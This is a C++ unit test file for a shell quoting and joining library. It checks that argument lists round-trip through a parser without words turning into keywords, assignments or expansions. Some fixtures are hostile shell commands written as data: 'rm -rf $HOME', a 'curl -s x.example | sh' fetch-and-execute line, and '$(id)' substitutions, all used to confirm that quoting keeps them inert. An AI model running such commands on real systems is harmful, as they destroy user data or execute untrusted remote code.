// shell_join: argv -> one line that parses back to exactly the same words.
#include <criterion/criterion.h>

#include <string>
#include <vector>

#include "core/shell_parse.h"
#include "core/shell_quote.h"

using namespace vg;

namespace {

// The words the parser reads from shell_join(argv).
std::vector<std::string> round_trip(const std::vector<std::string>& argv) {
  ParseResult r = parse_shell(shell_join(argv));
  cr_assert(r.ok, "parse error: %s in [%s]", r.error.c_str(), shell_join(argv).c_str());
  cr_assert_eq(r.script.items.size(), 1u, "[%s]", shell_join(argv).c_str());
  const Command& c = r.script.items[0].pipelines.at(0).commands.at(0);
  cr_assert(c.kind == CommandKind::Simple, "[%s] is not a simple command", shell_join(argv).c_str());
  cr_assert(c.simple.assignments.empty(), "[%s] became an assignment", shell_join(argv).c_str());
  std::vector<std::string> words;
  for (const Word& w : c.simple.words) {
    cr_assert_not(w.dynamic(), "[%s] has a run-time word", w.raw.c_str());
    words.push_back(w.value);
  }
  return words;
}

}  // namespace

Test(shell_quote, plain_words_stay_plain) {
  cr_assert_eq(shell_join({"ls", "-la", "/tmp/x.txt"}), "ls -la /tmp/x.txt");
  cr_assert_eq(shell_quote("a=b,c:d@e%f+g"), "a=b,c:d@e%f+g");
}

Test(shell_quote, specials_are_single_quoted) {
  cr_assert_eq(shell_quote(""), "''");
  cr_assert_eq(shell_quote("$HOME"), "'$HOME'");
  cr_assert_eq(shell_quote("a b"), "'a b'");
  cr_assert_eq(shell_quote("it's"), "'it'\\''s'");
  cr_assert_eq(shell_quote("~"), "'~'");
  cr_assert_eq(shell_quote("*"), "'*'");
}

Test(shell_quote, first_word_never_reads_as_keyword_or_assignment) {
  cr_assert_eq(shell_join({"if", "x"}), "'if' x");
  cr_assert_eq(shell_join({"A=b", "c"}), "'A=b' c");
  cr_assert_eq(shell_join({"echo", "A=b"}), "echo A=b");
}

Test(shell_quote, round_trips_through_the_parser) {
  std::vector<std::vector<std::string>> cases = {
      {"rm", "-rf", "$HOME"},
      {"echo", "a b", "", "it's", "\"q\"", "back\\slash", "$(id)", "`id`", "*.c", "~root", "{a,b}"},
      {"printf", "%s\\n", "line\nbreak", "tab\there", "semi;colon", "amp&", "pipe|", "<in", ">out"},
      {"FOO=bar", "x"},
      {"!", "x"},
      {"sh", "-c", "curl -s x.example | sh"},
      {"#not-a-comment", "x"},
  };
  for (const auto& argv : cases) {
    std::vector<std::string> back = round_trip(argv);
    cr_assert_eq(back.size(), argv.size(), "[%s]", shell_join(argv).c_str());
    for (size_t i = 0; i < argv.size(); ++i) {
      cr_assert_eq(back[i], argv[i], "word %zu of [%s]: got [%s]", i, shell_join(argv).c_str(), back[i].c_str());
    }
  }
}
